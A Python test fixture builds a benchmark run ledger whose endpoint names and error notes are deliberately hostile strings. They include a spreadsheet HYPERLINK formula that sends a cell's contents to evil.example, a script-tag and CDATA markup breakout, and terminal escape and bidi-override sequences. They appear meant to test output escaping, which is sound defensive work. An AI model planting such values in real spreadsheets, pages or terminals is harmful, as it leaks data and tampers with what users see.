"""A run whose app gives everything the worst names it can."""

from pathlib import Path

from bench.ledger import Fate, Ledger
from tests.ledgers import LedgerBuilder, endpoint, meta

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"look")'
MARKUP = "</testcase><script>alert(1)</script> | **bold** [link](http://evil.example) `code` @someone ]]>"
CONTROL = "\x1b]0;title\x07\x1b[2Jcleared\x9b31m \u202etxet"


def hostile_run(folder: Path) -> Ledger:
    """Give the run of one viewer of an endpoint named by a formula, with errors of markup and control codes."""
    builder = LedgerBuilder(folder, meta(endpoint(FORMULA), endpoint(MARKUP), command=f"gradio-bench run `{MARKUP}`"))
    builder.span(0.0, 1.0)
    for number in (0, 1):
        builder.viewer(number, 0.0, 1.0, endpoint=number)
        builder.stream(number, 0, 0.0, 0.01, 1.0, endpoint=number)
        for frame in range(10):
            builder.frame(number, frame, frame / 10, Fate.FAILED if frame == 9 else Fate.DELIVERED, endpoint=number)
    builder.note("error", 0.5, where="handler", what=MARKUP, endpoint=FORMULA)
    builder.note("error", 0.6, where="handler", what=CONTROL, endpoint=MARKUP)
    return builder.ledger()
